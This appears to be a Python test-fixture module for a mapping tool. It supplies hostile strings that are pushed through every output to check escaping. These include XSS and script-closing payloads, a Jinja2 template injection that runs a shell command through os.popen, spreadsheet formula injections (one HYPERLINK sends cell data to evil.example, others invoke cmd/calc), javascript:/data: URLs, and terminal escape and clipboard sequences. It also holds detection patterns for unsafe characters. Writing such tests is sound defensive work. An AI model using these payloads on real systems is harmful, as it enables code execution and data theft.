"""The hostile-text corpus: every payload goes into every text field and out through every output.

Each payload that could run script sets ``window.__gt_pwned`` (and some call ``alert``), so a
browser test sees any execution as a non-empty ``window.__gt_pwned`` or a dialog.  Payloads are
made up for the tests; none is a real report.
"""

from __future__ import annotations

import re

#: Name -> text.  Stored exactly; each output escapes it its own way.
PAYLOADS: dict[str, str] = {
    "html_img_onerror": '<img src=x onerror="window.__gt_pwned=1;alert(1)">',
    "svg_onload": "<svg/onload=window.__gt_pwned=2;alert(2)><b>bold</b>",
    "script_close": "</script><script>window.__gt_pwned=3;alert(3)</script>",
    "title_close": "</title></textarea></style><script>window.__gt_pwned=4</script>",
    "template": "${window.__gt_pwned=5} {{constructor.constructor('window.__gt_pwned=6')()}}",
    # Jinja2 (folium's templates): would render as "49 x" and run a shell command that
    # creates the file named by $GEOTRACK_SENTINEL, if the text were ever used as a template
    "jinja": "{{ 7*7 }} {% if true %}x{% endif %}{# c #} "
    "{{ lipsum.__globals__['os'].popen('touch \"$GEOTRACK_SENTINEL\"').read() }}",
    "backticks": "`${alert(7)}` `id` $(id)",
    "backslashes": '\\"; window.__gt_pwned=8; //\\\\ \\u003c \\x3c \\',
    "quotes": '\' onmouseover=\'window.__gt_pwned=9\' " onfocus="window.__gt_pwned=10" x="',
    "nul": "before\x00after",
    "rtl_override": "\u202egnp.exe \u2066isolate\u2069 \u200fmark",
    "long_50k": ("0123456789<b>&amp;\u00e9" * 2700)[:50_000],
    "chinese_korean": "鸭绿江临时浮桥 압록강 임시 다리 혜산 惠山",
    "emoji": "🚣\u200d♀️🌉🇰🇵🇨🇳 👨\u200d👩\u200d👧 🏳️\u200d🌈",
    "ansi_colour": "\x1b[31mRED\x1b[0m \x1b[2J\x1b[H",
    "osc52_clipboard": "\x1b]52;c;cHduZWQ=\x07 \x1b]0;pwned title\x07 \x9b31m C1",
    "formula_equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "xml_specials": "]]><![CDATA[x]]> &xxe; &amp; &#0; <!-- c --> <?pi x?>",
    "line_separators": "a\u2028b\u2029c\r\nd\re\nf",
    "controls": "\x07bell\x08\x0b\x0c\x7f",
}

#: Payloads shaped as URLs (the url and archive_url fields take ``scheme:...`` without spaces).
URL_PAYLOADS: dict[str, str] = {
    "javascript": "javascript:window.__gt_pwned=11;alert(11)",
    "data_html": "data:text/html,<script>window.__gt_pwned=12</script>",
    "attr_break": 'https://example.org/"><img/src=x/onerror=window.__gt_pwned=13>',
    "template_rtl": "https://example.org/${window.__gt_pwned=14}`x`\u202eevil",
    "vbscript": "vbscript:msgbox(15)",
    "idn_script": "https://例え.jp/압록강?q=</script><script>window.__gt_pwned=16</script>",
    "escape": "https://example.org/\x1b[31mred\x1b]52;c;eA==\x07",
    "nul": "https://example.org/a\x00b",
}

#: Characters a terminal acts on, or that hide or reorder text: C0 controls but tab and
#: newline, DEL, C1 controls, the bidirectional marks, embeddings, overrides and isolates
#: (U+061C too), zero-width characters, the line and paragraph separators and the Hangul
#: fillers.
TERMINAL_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e"
    "\u2060-\u2069\u3164\ufeff\uffa0]"
)
#: What a spreadsheet treats as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Characters XML 1.0 cannot hold (the KML export writes U+FFFD for them).
XML_INVALID = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def without_nul(text: str) -> str:
    """The text as GDAL-based outputs (GeoPackage, CSV) store it: NUL becomes U+FFFD."""
    return text.replace("\x00", "\ufffd")


def as_xml(text: str) -> str:
    """The text as the KML export writes it: characters XML cannot hold become U+FFFD."""
    return XML_INVALID.sub("\ufffd", text)


def argv_safe(text: str) -> bool:
    """Whether *text* can be passed as a command-line argument (no NUL)."""
    return "\x00" not in text


def assert_terminal_clean(data: bytes, what: str) -> None:
    """Fail if *data* (a command's stdout or stderr) would act on a terminal."""
    text = data.decode("utf-8")  # also: never invalid UTF-8
    m = TERMINAL_UNSAFE.search(text)
    assert m is None, f"{what}: raw control character {m.group()!r} at {m.start()}: " + repr(
        text[max(0, m.start() - 60) : m.start() + 60]
    )
